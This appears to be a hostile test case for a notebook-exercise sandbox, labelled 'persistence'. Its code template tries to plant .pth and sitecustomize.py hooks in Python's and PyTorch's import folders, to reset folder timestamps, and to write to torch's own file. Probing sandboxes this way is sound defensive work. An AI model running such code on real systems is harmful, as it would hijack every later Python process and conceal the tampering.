"""Writes into the folders that Python and PyTorch import from, and into their byte code."""

KIND = "persistence"
EXERCISE = "03.split_heads"
EARNS = 2
CELL = r"""
@LOOT@

import os
import sys

import torch

for folder in (
    os.path.dirname(torch.__file__), os.path.dirname(os.__file__),
    os.path.dirname(torch.__file__) + "/__pycache__", os.path.dirname(os.__file__) + "/__pycache__",
    *[path for path in sys.path if path], sys.prefix, sys.exec_prefix,
):
    for name in ("MALLORY.pth", "sitecustomize.py", "MALLORY.so"):
        try:
            with open(f"{folder}/{name}", "x") as file:
                file.write("import MALLORY\n")
            loot.append(f"{folder}/{name}")
        except OSError:
            pass
    try:
        os.utime(folder, (0, 0))
        loot.append(f"the time of {folder}")
    except OSError:
        pass
try:
    with open(torch.__file__, "r+b"):
        loot.append(torch.__file__)
except OSError:
    pass


@RIGHT@
"""
